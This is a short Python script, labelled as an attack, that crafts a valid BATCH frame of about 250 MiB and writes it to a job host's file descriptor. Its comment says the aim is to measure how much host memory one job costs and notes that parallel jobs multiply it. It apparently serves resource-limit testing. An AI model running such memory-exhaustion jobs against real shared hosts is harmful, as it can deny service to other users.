# Attack: one valid BATCH frame just under the 256 MiB frame limit. The host reads it whole, then re-marshals it
# into one gRPC message to the caller: how much host memory does one job cost?  N jobs at once multiply it.
import os, struct, sys
def wall(b):
    mv = memoryview(b)
    while mv:
        n = os.write(3, mv); mv = mv[n:]
def s(x): x = x.encode(); return struct.pack('<I', len(x)) + x
L = 250 << 20
sch = struct.pack('<I', 1) + s('blob') + bytes([10, 1, 0, 0])
wall(struct.pack('<IB', len(sch), 3) + sch)
nb = 3
head = struct.pack('<II', 1, nb)
pos = 8 + 16 * nb  # 56, already 8-aligned
table = struct.pack('<QQ', pos, 0) + struct.pack('<QQ', pos, 8) + struct.pack('<QQ', pos + 8, L)
body = head + table + struct.pack('<II', 0, L)
wall(struct.pack('<IB', len(body) + L, 4) + body)
chunk = bytes(1 << 20)
for _ in range(L >> 20):
    wall(chunk)
P = struct.pack('<I', 4) + struct.pack('<I', 0) + struct.pack('<II', 0, 0)
wall(struct.pack('<IB', len(P), 2) + P)
wall(struct.pack('<IB', 8, 5) + struct.pack('<Q', 1))
sys.stdout.flush(); os._exit(0)
